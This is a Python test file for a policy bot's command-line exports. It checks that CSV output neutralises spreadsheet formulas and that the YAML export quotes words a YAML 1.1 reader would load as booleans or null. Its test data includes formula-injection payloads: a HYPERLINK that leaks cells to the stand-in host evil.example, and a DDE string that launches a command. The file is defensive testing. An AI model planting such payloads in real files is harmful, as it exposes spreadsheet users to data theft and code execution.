"""Issue 26 F4 and the YAML note, through the `policybot` command on a real database: every
CSV it writes is formula-safe (one writer), and the YAML export quotes words that a YAML 1.1
reader would load as booleans or null."""

from __future__ import annotations

import csv
import io

import pytest
import yaml
from typer.testing import CliRunner

from bot.adapters.db.store import Store
from bot.domain.policy import Status
from bot.entrypoints.cli import app
from tests.factories import make_policy, seed_registry
from tests.wiring import runtime_on, seed

ADMIN, ALICE, BOB = "UADMIN", "UALICE", "UBOB"
# What a member may type as an exception's purpose and justification, and an admin as a note.
FORMULAS = (
    '=HYPERLINK("http://evil.example/?leak="&B2&C2,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "  =1+1",
)
runner = CliRunner()


@pytest.fixture
def env(store: Store, database_url: str, monkeypatch: pytest.MonkeyPatch) -> Store:
    monkeypatch.setenv("DATABASE_URL", database_url)
    monkeypatch.delenv("POLICYBOT_ADMINS", raising=False)
    return store


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def test_the_exceptions_export_writes_no_live_formula(env: Store) -> None:
    runtime = runtime_on(env, admins=[ADMIN], requests_per_day=20)
    seed(runtime, [*seed_registry(), make_policy("Midjourney", status=Status.CONDITIONAL)])
    for number, formula in enumerate(FORMULAS, start=1):
        user = f"U0ASKER{number}"
        tool = "Claude Code" if number % 2 else "Midjourney"
        asked = runtime.service.handle(
            f"exception {tool} --purpose {formula} --data internal --days 5 --why {formula}",
            user=user,
            source="console",
        )
        assert "Asked for an exception" in asked.text, asked.text
        verb = "decline" if number % 2 else "approve"
        runtime.service.handle(f"{verb} E{number} --reason {formula}", user=ADMIN, source="cli")

    result = runner.invoke(app, ["export-exceptions"])

    assert result.exit_code == 0, result.output
    written = cells(result.output)
    assert all(not cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t")) for cell in written)
    assert '\'=HYPERLINK("http://evil.example/?leak="&B2&C2,"click")' in written
    assert "'+cmd|' /C calc'!A0" in written
    assert "'-2+3" in written and "'@SUM(1+1)" in written


def test_the_catalogue_csv_goes_through_the_same_writer(env: Store) -> None:
    runtime = runtime_on(env)
    seed(runtime, [make_policy("=cmd()", status=Status.ALLOWED, category="+sum")])

    result = runner.invoke(app, ["catalogue", "export", "csv"])

    assert result.exit_code == 0, result.output
    assert "'=cmd()" in cells(result.output) and "'+sum" in cells(result.output)


def test_the_yaml_export_quotes_what_yaml_1_1_reads_as_a_boolean(env: Store) -> None:
    runtime = runtime_on(env)
    seed(
        runtime,
        [
            make_policy("yes", status=Status.ALLOWED, vendor="No"),
            make_policy("On", status=Status.BANNED, vendor="null", alternatives=("yes",)),
        ],
    )

    result = runner.invoke(app, ["catalogue", "export", "yaml"])

    assert result.exit_code == 0, result.output
    loaded = yaml.safe_load(result.output)  # PyYAML reads YAML 1.1
    tools = {tool["name"]: tool for tool in loaded["tools"]}
    assert set(tools) == {"yes", "On"}
    assert tools["yes"]["vendor"] == "No"
    assert tools["On"]["vendor"] == "null" and tools["On"]["alternatives"] == ["yes"]


def test_no_other_module_writes_csv_itself() -> None:
    import ast
    from pathlib import Path

    bot = Path(__file__).resolve().parents[2] / "bot"
    writers = []
    for path in bot.rglob("*.py"):
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            names = [a.name for a in node.names] if isinstance(node, ast.Import) else []
            if isinstance(node, ast.ImportFrom) and node.module == "csv":
                names = ["csv"]
            if "csv" in names:
                writers.append(path.relative_to(bot).as_posix())

    assert writers == ["adapters/files/csvfile.py"]
